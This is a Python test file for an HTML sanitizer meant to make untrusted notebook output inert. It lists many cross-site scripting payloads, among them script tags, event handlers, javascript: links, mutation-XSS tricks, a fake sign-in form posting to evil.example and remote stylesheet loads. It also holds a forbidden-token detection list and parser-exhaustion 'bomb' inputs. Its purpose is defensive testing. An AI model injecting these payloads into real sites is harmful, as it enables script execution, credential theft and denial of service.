"""A stranger's HTML: nothing of it acts, and none of it costs more than its size."""

from __future__ import annotations

import time

import pytest

from judge.inert_html import TooIntricate, clean

_ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>',
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png" srcset="https://evil.example/2.png 2x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#x0A;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="/logout/">x</a>',
    '<a href="//evil.example">x</a>',
    "<style>@import url(//evil.example/x.css);</style>",
    '<p style="background: url(//evil.example/x.png)">x</p>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0; url=//evil.example">',
    '<base href="//evil.example/">',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
    "<video src=//evil.example autoplay></video><audio src=//evil.example></audio>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=site-header name=csrfmiddlewaretoken data-topic=x onclick=alert(1)>x</p>",
    "<<script>alert(1)//<</script>",
    "<p/onclick=alert(1)//>x",
    "<a href='https://x.example/' onmouseover='alert(1)'>x</a>",
    '<p class="a" class="&quot; onclick=&quot;alert(1)">x</p>',
    "<td><tr><table><script>alert(1)",
    "<plaintext><script>alert(1)</script>",
    "<body onload=alert(1)><html manifest=//evil.example>",
]
_FORBIDDEN = (
    "<script", "onerror", "onload", "onclick", "onmouse", "javascript:", "<svg", "<style", "style=", "<iframe", "<form",
    "<input", "<meta", "<base", "<link", "<object", "<embed", "srcdoc", "evil.example", "<video", "id=", "data:text",
    "svg+xml", "<template", "<noscript", "<math", "name=",
)  # fmt: skip


@pytest.mark.parametrize("attack", _ATTACKS)
def test_an_attack_is_inert(attack: str) -> None:
    markup = "<" + " <".join(piece.partition(">")[0] for piece in clean(attack).split("<")[1:])
    assert not [word for word in _FORBIDDEN if word in markup.lower()]


def test_what_a_notebook_shows_is_kept() -> None:
    shown = (
        '<div class="cell"><h2>Title</h2><pre><span class="k">if</span> a &lt; b:</pre>'
        '<table class="dataframe"><tr><th colspan="2">x</th></tr><tr><td>1</td></tr></table>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a plot"><ul><li>one</li></ul></div>'
    )
    kept = clean(shown)
    for piece in (
        '<div class="cell">',
        '<span class="k">if</span> a &lt; b:',
        '<th colspan="2">x</th>',
        "iVBORw0KGgo=",
        'alt="a plot"',
        "<li>one</li>",
    ):
        assert piece in kept


def test_a_link_leads_away_and_takes_nothing_along() -> None:
    kept = clean('<a href="https://example.org/a?b=c&amp;d">x</a>')
    assert 'href="https://example.org/a?b=c&amp;d"' in kept
    assert 'rel="noopener noreferrer nofollow"' in kept
    assert 'target="_blank"' in kept


def test_what_is_left_open_is_closed_and_what_was_never_opened_is_not() -> None:
    assert clean("</div></p><div><i>a</div>b") == "<div><i>a</i></div>b"


_N = 60_000
_BOMBS = {
    "nested blocks": "<div>" * _N,
    "formatting in paragraphs": "".join(f"<p><b class={i}></p>" for i in range(_N)),
    "links in paragraphs": "".join(f"<p><a href=https://x/{i}></p>" for i in range(_N)),
    "misnested": "<b><div></b>" * _N,
    "tables": "<table><b>x" * _N,
    "comments without end": "<!--" * 500_000,
    "quotes without end": '<p "' * 500_000,
    "angle brackets": "<" * 500_000,
    "a long name": "<p " + "a" * 2_000_000 + ">",
    "long blanks": "<p a" + " " * 2_000_000 + "b>",
    "many attributes": "<p " + "a=1 " * 500_000 + ">",
    "entities": "&a" * 200_000,
    "styles": "<style>" * 200_000,
    "closings that do not end": "<script>" + "</script" * 1_000_000,
    "one long number": "&#" + "9" * 2_000_000 + ";",
    "long numbers": f"<a href='&#{'0' * 5_000}65;'>" * 1_000,
    "closings": "<div>" * 59 + "</b>" * 190_000,
    "one picture": f'<img src="data:image/png;base64,{"A" * (9 << 20)}">',
}


@pytest.mark.parametrize("bomb", _BOMBS)
def test_a_bomb_costs_little(bomb: str) -> None:
    began = time.process_time()
    kept = clean(_BOMBS[bomb])
    assert time.process_time() - began < 8
    assert len(kept) < 12 << 20


def test_more_tags_than_a_notebook_has_are_not_shown() -> None:
    with pytest.raises(TooIntricate):
        clean("<br>" * 300_000)
    with pytest.raises(TooIntricate):
        clean("&a" * 300_000)
